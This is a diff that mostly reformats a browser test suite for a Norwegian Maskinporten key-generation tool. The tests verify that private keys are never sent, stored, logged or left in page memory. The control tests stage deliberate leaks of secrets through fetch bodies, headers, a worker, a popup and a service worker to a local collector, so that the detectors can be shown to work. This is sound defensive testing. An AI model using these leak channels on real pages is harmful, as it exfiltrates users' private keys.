@@ -16,7 +16,12 @@ import { BROWSERS_OWN_HOSTS, askedByBrowser, askedByPages, netLog, sentOctets } 
 import { answer, field, goTo, makeKey, pasteInto, send, sitDown, t } from './person.mjs';
 import { startCollector } from './ways-out/collector.mjs';
 
-const HERE = { locale: 'nb-NO', acceptDownloads: true, permissions: ['clipboard-read', 'clipboard-write'], viewport: { width: 1280, height: 900 } };
+const HERE = {
+  locale: 'nb-NO',
+  acceptDownloads: true,
+  permissions: ['clipboard-read', 'clipboard-write'],
+  viewport: { width: 1280, height: 900 },
+};
 /** No name is looked up outside this machine. */
 const NO_NAMES = '--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE *.localhost';
 const KINDS = ['rsa-2048', 'p-256', 'ed25519', 'p-384', 'rsa-3072'];
@@ -30,11 +35,23 @@ suite('after everything was used', () => {
   test('G1: requests went to the page\'s own origin and the environments\' hosts', (t) => {
     const urls = [...new Set(askedByPages(used.events))].filter((url) => !/^(blob|data|chrome):/.test(url));
     const origins = [...new Set(urls.map((url) => new URL(url).origin))].sort();
-    assert.deepEqual(origins, [new URL(used.url).origin, 'https://maskinporten.no', 'https://test.maskinporten.no'].sort());
+    assert.deepEqual(
+      origins,
+      [new URL(used.url).origin, 'https://maskinporten.no', 'https://test.maskinporten.no'].sort(),
+    );
     assert.deepEqual(askedByBrowser(used.events).filter((host) => !BROWSERS_OWN_HOSTS.test(host)), []);
     const paths = [...new Set(urls.map((url) => new URL(url).pathname))].sort();
-    assert.deepEqual(paths, ['/', '/.well-known/oauth-authorization-server', '/page.js', '/portal.wasm', '/token', '/vault.html']);
-    t.diagnostic(`${used.events.length} events of the browser's network, ${sentOctets(used.events).length} octets sent`);
+    assert.deepEqual(paths, [
+      '/',
+      '/.well-known/oauth-authorization-server',
+      '/page.js',
+      '/portal.wasm',
+      '/token',
+      '/vault.html',
+    ]);
+    t.diagnostic(
+      `${used.events.length} events of the browser's network, ${sentOctets(used.events).length} octets sent`,
+    );
   });
 
   test('G2: nothing that was sent carries a key', async () => {
@@ -56,7 +73,11 @@ suite('after everything was used', () => {
     assert.ok(used.pageMemory.wasm.length > 100_000, 'portal.wasm is among what is searched');
     assert.deepEqual(describe(used.scanner.find(used.pageMemory.strings)), []);
     assert.deepEqual(describe(used.scanner.find(used.pageMemory.wasm)), []);
-    assert.notDeepEqual(used.scanner.find(used.vaultMemory.strings), [], 'control: the same look into the vault\'s process finds them');
+    assert.notDeepEqual(
+      used.scanner.find(used.vaultMemory.strings),
+      [],
+      "control: the same look into the vault's process finds them",
+    );
   });
 
   test('G5: nothing private is stored: not in the profile on disk, nor in any store', async (t) => {
@@ -69,7 +90,11 @@ suite('after everything was used', () => {
 
   test('G6: nothing private was said in the console or in an error', () => {
     assert.deepEqual(describe(used.scanner.find(used.said.join('\n'))), []);
-    assert.deepEqual(used.said.filter((text) => !/net::ERR_NAME_NOT_RESOLVED|status of 4\d\d/.test(text)), [], 'nothing else was said either');
+    assert.deepEqual(
+      used.said.filter((text) => !/net::ERR_NAME_NOT_RESOLVED|status of 4\d\d/.test(text)),
+      [],
+      'nothing else was said either',
+    );
   });
 });
 
@@ -79,11 +104,16 @@ suite('controls: the same searches find what is there', () => {
 
   test('G2: a leak by page, worker, popup or service worker, in shifted base64, is caught', async () => {
     const log = await netLog();
-    const [browser, portal, collector] = await Promise.all([launch({ args: [...log.args, NO_NAMES] }), startPortal(['--quiet']), startCollector()]);
+    const [browser, portal, collector] = await Promise.all([
+      launch({ args: [...log.args, NO_NAMES] }),
+      startPortal(['--quiet']),
+      startCollector(),
+    ]);
     const context = await browser.newContext();
     const secrets = secretsFor(['body', 'address', 'header', 'worker', 'popup', 'service-worker']);
     secrets.password = SECRET_WORD;
-    const shifted = (/** @type {string} */ way) => Buffer.concat([Buffer.from('x'), Buffer.from(secrets[way].d, 'base64url')]).toString('base64');
+    const shifted = (/** @type {string} */ way) =>
+      Buffer.concat([Buffer.from('x'), Buffer.from(secrets[way].d, 'base64url')]).toString('base64');
 
     const { page } = await open(context, portal.url);
     await page.evaluate((text) => fetch('leak', { method: 'POST', body: text }), shifted('body'));
@@ -91,13 +121,32 @@ suite('controls: the same searches find what is there', () => {
     await page.evaluate((text) => fetch('leak', { headers: { 'x-leak': text } }), shifted('header'));
     await page.evaluate((password) => fetch('leak', { method: 'POST', body: new URLSearchParams({ password }) }), PASSWORD);
     const free = await context.newPage();
-    const sw = new URL(collector.serve(`self.onactivate = (e) => e.waitUntil(fetch('${collector.address('by-service-worker')}', { method: 'POST', mode: 'no-cors', body: '${shifted('service-worker')}' }))`, 'text/javascript'));
+    const sw = new URL(
+      collector.serve(
+        `self.onactivate = (e) => e.waitUntil(fetch('${collector.address('by-service-worker')}', {
+          method: 'POST', mode: 'no-cors', body: '${shifted('service-worker')}',
+        }))`,
+        'text/javascript',
+      ),
+    );
     await free.goto(collector.serve('<!doctype html><title>leak</title>'));
-    await free.evaluate(async ({ worker, popup, sw, address }) => {
-      new Worker(URL.createObjectURL(new Blob([`fetch('${address}by-worker', { method: 'POST', mode: 'no-cors', body: '${worker}' })`])));
-      window.open(`${address}by-popup?${encodeURIComponent(popup)}`);
-      await navigator.serviceWorker.register(sw);
-    }, { worker: shifted('worker'), popup: shifted('popup'), sw: sw.pathname, address: `${new URL(free.url()).origin}/` });
+    await free.evaluate(
+      async ({ worker, popup, sw, address }) => {
+        new Worker(
+          URL.createObjectURL(
+            new Blob([`fetch('${address}by-worker', { method: 'POST', mode: 'no-cors', body: '${worker}' })`]),
+          ),
+        );
+        window.open(`${address}by-popup?${encodeURIComponent(popup)}`);
+        await navigator.serviceWorker.register(sw);
+      },
+      {
+        worker: shifted('worker'),
+        popup: shifted('popup'),
+        sw: sw.pathname,
+        address: `${new URL(free.url()).origin}/`,
+      },
+    );
     assert.deepEqual(await collector.missing(['by-service-worker'], 5000), []);
     assert.deepEqual(await collector.missingPaths(['/by-worker', '/by-popup'], 5000), []);
     await browser.close();
@@ -127,7 +176,8 @@ suite('controls: the same searches find what is there', () => {
       element.placeholder = password;
     }, { d, password: PASSWORD });
     const scanner = new Scanner(Object.values(secrets));
-    const keys = (/** @type {string|Uint8Array} */ haystack) => [...new Set(scanner.find(haystack).map(({ key }) => key))].sort();
+    const keys = (/** @type {string|Uint8Array} */ haystack) =>
+      [...new Set(scanner.find(haystack).map(({ key }) => key))].sort();
     const memory = await memoryOf(context, page);
     assert.deepEqual(keys(await everHeld(page)), ['attribute', 'message', 'password', 'text']);
     assert.deepEqual(keys(await heldNow(page)), ['attribute', 'field', 'password', 'text']);
@@ -168,15 +218,25 @@ suite('G3: a private key pasted into a field of the page', () => {
   });
 });
 
-for (const [name, address] of [['from a server', null], ['from a file', pathToFileURL(path.join(ROOT, 'dist/nokkelsmie.html')).href]]) {
+for (const [name, address] of [
+  ['from a server', null],
+  ['from a file', pathToFileURL(path.join(ROOT, 'dist/nokkelsmie.html')).href],
+]) {
   test(`G8: ${name}, with the network cut, everything works but the calls`, async () => {
     const [browser, portal] = await Promise.all([launch(), startPortal(['--quiet'])]);
-    const person = await sitDown(browser, address ?? portal.url, { before: async (context) => { if (address) await context.setOffline(true); } });
+    const person = await sitDown(browser, address ?? portal.url, {
+      before: async (context) => {
+        if (address) await context.setOffline(true);
+      },
+    });
     const { page, vault, context } = person;
     await context.setOffline(true);
     await goTo(page, 'lag-nokkel');
     const kid = await makeKey(person);
-    const [file] = await Promise.all([page.waitForEvent('download'), vault.getByRole('button', { name: t('vault.card.save'), exact: true }).click()]);
+    const [file] = await Promise.all([
+      page.waitForEvent('download'),
+      vault.getByRole('button', { name: t('vault.card.save'), exact: true }).click(),
+    ]);
     const saved = await readFile(await file.path(), 'utf8');
     assert.equal(JSON.parse(saved).kid, kid);
     await goTo(page, 'sjekk-nokkel');
@@ -196,7 +256,10 @@ for (const [name, address] of [['from a server', null], ['from a file', pathToFi
     await page.locator('[data-code="MP-124"]').waitFor();
     for (const language of ['nn', 'en', 'nb']) await page.locator(`label:has(#language-${language})`).click();
     await goTo(page, 'veiviser');
-    assert.deepEqual((await portal.log()).requests.filter((/** @type {any} */ { method }) => method === 'POST'), []);
+    assert.deepEqual(
+      (await portal.log()).requests.filter((/** @type {any} */ { method }) => method === 'POST'),
+      [],
+    );
     await browser.close();
     await portal.stop();
   });
@@ -205,7 +268,9 @@ for (const [name, address] of [['from a server', null], ['from a file', pathToFi
 /** The field for the client_id is given a private key; the page refuses it and says so. */
 async function pasteInTheWrongPlace() {
   const [browser, portal] = await Promise.all([launch({ args: [WHOLE_STRINGS] }), startPortal(['--quiet'])]);
-  const person = await sitDown(browser, `${portal.url}#test-klienten`, { before: (context) => context.addInitScript(watchPage) });
+  const person = await sitDown(browser, `${portal.url}#test-klienten`, {
+    before: (context) => context.addInitScript(watchPage),
+  });
   const { page, vault, context } = person;
   const jwk = { ...newPrivateJwk('rsa', { modulusLength: 2048 }), kid: 'pasted' };
   // Put on the clipboard by the vault: the page must not get it from this test.
@@ -225,7 +290,10 @@ async function pasteInTheWrongPlace() {
 async function useAll() {
   const log = await netLog();
   const portal = await startPortal(['--quiet']);
-  const { context, profile, forget } = await launchWithProfile({ args: [...log.args, WHOLE_STRINGS, NO_NAMES], ...HERE });
+  const { context, profile, forget } = await launchWithProfile({
+    args: [...log.args, WHOLE_STRINGS, NO_NAMES],
+    ...HERE,
+  });
   try {
     await context.addInitScript(watchPage);
     const opened = await open(context, portal.url);
@@ -235,10 +303,14 @@ async function useAll() {
     const look = async () => { looks.push(await heldNow(page)); };
     const { keys, wrong } = await useEverything({ context, page, vault }, portal, { kinds: KINDS, look });
     const scanner = new Scanner([...keys, JSON.parse(wrong[0])]);
-    const frame = /** @type {import('playwright-core').Frame} */ (page.frames().find((one) => one !== page.mainFrame()));
+    const frame = /** @type {import('playwright-core').Frame} */ (
+      page.frames().find((one) => one !== page.mainFrame())
+    );
     const held = await everHeld(page);
     const pageMemory = await memoryOf(context, page);
-    await frame.evaluate(() => Object.assign(window, { shown: document.querySelector('pre.secret:not([hidden])')?.textContent }));
+    await frame.evaluate(() =>
+      Object.assign(window, { shown: document.querySelector('pre.secret:not([hidden])')?.textContent }),
+    );
     const vaultMemory = await memoryOf(context, frame);
 
     await page.reload();
@@ -247,7 +319,21 @@ async function useAll() {
     const cookies = await context.cookies();
     const portalLog = await portal.log();
     await context.close();
-    return { url: portal.url, events: await log.events(), requests, said, looks, everHeld: held, pageMemory, vaultMemory, cookies, portalLog, scanner, profile, forget };
+    return {
+      url: portal.url,
+      events: await log.events(),
+      requests,
+      said,
+      looks,
+      everHeld: held,
+      pageMemory,
+      vaultMemory,
+      cookies,
+      portalLog,
+      scanner,
+      profile,
+      forget,
+    };
   } finally {
     await context.close().catch(() => {});
     await Promise.all([portal.stop(), log.forget()]);
